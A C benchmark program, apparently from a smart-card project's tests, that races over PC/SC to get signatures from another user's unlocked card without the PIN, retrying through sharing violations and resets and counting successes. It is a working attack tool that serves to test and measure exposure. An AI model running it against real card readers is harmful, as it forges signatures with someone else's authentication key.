/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attacker READER TRIES: a program without the PIN tries as fast as it can to sign with the auth
 * key of a card that others may have left open. Prints how many tries had a connection, how many of
 * these the card answered, and how many got a signature.
 *
 * Only what PC/SC refuses because the card is held in a transaction is tried once more.
 */
#include <err.h>
#include <stdio.h>
#include <stdlib.h>

#include "tests/bench/plain-card.h"

static LONG send_all(const struct plain_card *card)
{
	LONG sw = PLAIN_CARD_SEND(card, 0x00, 0xA4, 0x04, 0x0C, 0x0A, 0xD3, 0x92, 0xF0, 0x00, 0x26,
				  0x01, 0x00, 0x00, 0x00, 0x01);

	if (plain_card_answered(sw))
		sw = PLAIN_CARD_SEND(card, 0x00, 0xA4, 0x02, 0x0C, 0x02, 0x00, 0x17);
	if (plain_card_answered(sw))
		sw = PLAIN_CARD_SEND(card, 0x80, 0x2A, 0x00, 0x80, 0x04, 'e', 'v', 'i', 'l', 0x00);
	return sw;
}

static LONG try_to_sign(struct plain_card *card)
{
	DWORD protocol;
	LONG sw;

	for (;;) {
		sw = send_all(card);
		if (sw == SCARD_W_RESET_CARD)
			SCardReconnect(card->handle, SCARD_SHARE_SHARED, SCARD_PROTOCOL_T1,
				       SCARD_LEAVE_CARD, &protocol);
		else if (sw != SCARD_E_SHARING_VIOLATION)
			return sw;
	}
}

int main(int argc, char **argv)
{
	unsigned int connections = 0, answers = 0, signatures = 0;
	struct plain_card card;
	bool connected = false;

	if (argc != 3)
		errx(EXIT_FAILURE, "usage: attacker READER TRIES");
	/* libpcsclite would sleep while others hold the card. */
	setenv("PCSCLITE_NO_BLOCKING", "1", 1);
	plain_card_init(&card);

	for (int i = 0; i < atoi(argv[2]); i++) {
		LONG sw;

		if (!connected)
			connected = plain_card_connect(&card, argv[1], SCARD_SHARE_SHARED) ==
				    SCARD_S_SUCCESS;
		if (!connected)
			continue;
		connections++;
		sw = try_to_sign(&card);
		answers += plain_card_answered(sw);
		signatures += sw == PLAIN_SW_SUCCESS;
	}
	printf("%u %u %u\n", connections, answers, signatures);
	return EXIT_SUCCESS;
}
